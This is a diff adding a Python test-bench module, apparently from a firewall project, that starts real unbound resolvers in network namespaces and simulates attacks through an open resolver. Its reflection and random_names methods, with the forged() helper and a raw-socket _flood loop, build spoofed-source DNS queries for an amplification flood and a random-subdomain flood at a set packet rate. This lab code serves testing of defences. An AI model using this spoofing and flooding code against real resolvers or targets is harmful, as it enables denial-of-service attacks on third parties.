@@ -1,0 +1,193 @@
+"""A victim that answers DNS to the world: a real unbound, its authority, clients, and attacks through it.
+
+The victim's unbound recurses for anybody. In the other namespace another unbound is authoritative for the
+zones; the authority of one zone never answers, as that of an attacked zone. There are the clients, too, in
+networks of their own, and the address that reflected answers go to.
+"""
+
+from __future__ import annotations
+
+import random
+import shutil
+import socket
+import struct
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+from benches.dns_clients import ClientAnswers, ask_names
+from fwtop.bench.two_hosts import TwoHosts
+from fwtop.kernel.namespaces import inside
+from fwtop.lab import namespaces
+from fwtop.lab.network import GATEWAY_4, VICTIM_4
+from fwtop.model.errors import FwtopError
+from fwtop.model.traffic.dns import wire_name
+
+CLIENTS = tuple(f"198.19.{number}.10" for number in range(1, 41))
+TARGET = "198.19.200.7"  # of reflected answers
+_SILENT = "198.18.0.3"  # the authority of the attacked zone
+NAMES = tuple(f"www{number}.shop.example" for number in range(200))
+BIG, ATTACKED = "big.example", "hunted.example"
+_ANY, _A, _TXT = 255, 1, 16
+_READY_SECONDS = 10.0
+_COUNTER = f"""table ip far {{
+ counter reflected {{ }}
+ chain in {{
+  type filter hook prerouting priority -400
+  ip daddr {_SILENT} drop
+  ip daddr {TARGET} counter name reflected drop
+ }}
+}}
+"""
+_SERVER = """server:
+ interface: {address}
+ directory: "{directory}"
+ access-control: 0.0.0.0/0 allow
+ module-config: "iterator"
+ do-not-query-localhost: no
+ max-udp-size: 4096
+ edns-buffer-size: 4096
+ chroot: ""
+ username: ""
+ pidfile: ""
+ use-syslog: no
+ do-daemonize: no
+ do-ip6: no
+ num-threads: 1
+remote-control:
+ control-enable: no
+"""
+_RESOLVES = f"""stub-zone:
+ name: {ATTACKED}
+ stub-addr: {_SILENT}
+stub-zone:
+ name: example
+ stub-addr: {GATEWAY_4}
+"""
+_KNOWS = """auth-zone:
+ name: example
+ zonefile: example.zone
+ for-upstream: no
+"""
+
+
+class ResolverLab(TwoHosts):
+    """The namespaces, daemons and addresses, for the duration of the `with` block."""
+
+    def __init__(self) -> None:
+        super().__init__((*CLIENTS, TARGET, _SILENT))
+
+    def _require(self) -> None:
+        if shutil.which("unbound") is None:
+            raise FwtopError("unbound is not installed; nothing was started: apt-get install unbound", 3)
+
+    def _serve(self) -> None:
+        namespaces.run("ip", "netns", "exec", self.attacker, "nft", "-f", "-", text=_COUNTER)
+        zone = [
+            "$ORIGIN example.",
+            "$TTL 1",
+            "@ SOA ns hostmaster 1 60 60 60 60",
+            " NS ns",
+            f"ns A {GATEWAY_4}",
+        ]
+        zone += [f"{name}. A 192.0.2.{number % 250}" for number, name in enumerate(NAMES)]
+        zone += [f'{BIG}. TXT "{number:02d}{"x" * 240}"' for number in range(12)]
+        (self.folder / "example.zone").write_text("\n".join(zone) + "\n", encoding="ascii")
+        for netns, address, zones in (
+            (self.attacker, GATEWAY_4, _KNOWS),
+            (self.victim, VICTIM_4, _RESOLVES),
+        ):
+            config = self.folder / f"{address}.conf"
+            server = _SERVER.format(address=address, directory=self.folder)
+            config.write_text(server + zones, encoding="ascii")
+            self._daemon(netns, "unbound", "-d", "-c", str(config))
+            self._wait_for(address)
+
+    def _wait_for(self, address: str) -> None:
+        end = time.monotonic() + _READY_SECONDS
+        question = query(NAMES[0], _A)
+        with inside(self.attacker):
+            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        with sock:
+            sock.settimeout(0.2)
+            while time.monotonic() < end:
+                sock.sendto(question, (address, 53))
+                try:
+                    if sock.recv(4096)[3] & 15 == 0:
+                        return
+                except OSError:  # nobody there yet, or no answer
+                    time.sleep(0.05)
+        raise FwtopError(f"unbound at {address} did not begin to answer; the lab is taken down again")
+
+    def clients(self, seconds: float) -> ClientAnswers:
+        """Let the clients ask real names for so long; return what became of their questions."""
+        return ask_names(self.attacker, VICTIM_4, CLIENTS, NAMES, seconds)
+
+    def reflected(self) -> tuple[int, int]:
+        """Return packets and bytes that reached the target of the reflection so far."""
+        words = ("nft", "list", "counter", "ip", "far", "reflected")
+        listed = namespaces.run("ip", "netns", "exec", self.attacker, *words).split()
+        return int(listed[listed.index("packets") + 1]), int(listed[listed.index("bytes") + 1])
+
+    @contextmanager
+    def reflection(self, pps: int) -> Iterator[None]:
+        """Ask for the big answer in the target's name, for the duration of the block."""
+        ports = iter(lambda: random.randrange(1024, 65535), 0)  # noqa: S311
+        questions = [forged(TARGET, next(ports), query(BIG, kind, 4096)) for kind in (_ANY, _TXT) * 64]
+        with self._flood(questions, pps):
+            yield
+
+    @contextmanager
+    def random_names(self, pps: int) -> Iterator[None]:
+        """Ask for names that don't exist in the attacked zone, in the names of many, during the block."""
+        letters = "abcdefghijklmnopqrstuvwxyz"
+        made = random.Random(1)  # noqa: S311
+        questions = [
+            forged(
+                f"198.19.{made.randrange(100, 200)}.{made.randrange(1, 255)}",
+                made.randrange(1024, 65535),
+                query(f"{''.join(made.choices(letters, k=12))}.{ATTACKED}", _A),
+            )
+            for _ in range(20_000)
+        ]
+        with self._flood(questions, pps):
+            yield
+
+    @contextmanager
+    def _flood(self, packets: list[bytes], pps: int) -> Iterator[None]:
+        over = threading.Event()
+        with inside(self.attacker):
+            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        thread = threading.Thread(target=_send, args=(raw, packets, pps, over))
+        thread.start()
+        try:
+            yield
+        finally:
+            over.set()
+            thread.join()
+            raw.close()
+
+
+def query(name: str, kind: int, room: int = 0) -> bytes:
+    """Build a question with RD; `room`: with EDNS, for answers of so many bytes."""
+    head = struct.pack(">6H", random.randrange(1 << 16), 0x0100, 1, 0, 0, int(room > 0))  # noqa: S311
+    question = wire_name([label.encode() for label in name.split(".")]) + struct.pack(">2H", kind, 1)
+    return head + question + (struct.pack(">BHHIH", 0, 41, room, 0, 0) if room else b"")
+
+
+def forged(source: str, port: int, payload: bytes) -> bytes:
+    """Build a datagram to the victim's port 53; the kernel fills in the header's checksum (raw(7))."""
+    udp = struct.pack(">4H", port, 53, 8 + len(payload), 0) + payload
+    ends = socket.inet_aton(source) + socket.inet_aton(VICTIM_4)
+    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 57, 17, 0) + ends + udp
+
+
+def _send(raw: socket.socket, packets: list[bytes], pps: int, over: threading.Event) -> None:
+    started, sent = time.monotonic(), 0
+    while not over.is_set():
+        due = int((time.monotonic() - started) * pps)
+        for number in range(sent, due):
+            raw.sendto(packets[number % len(packets)], (VICTIM_4, 0))
+        sent = max(sent, due)
+        over.wait(0.002)
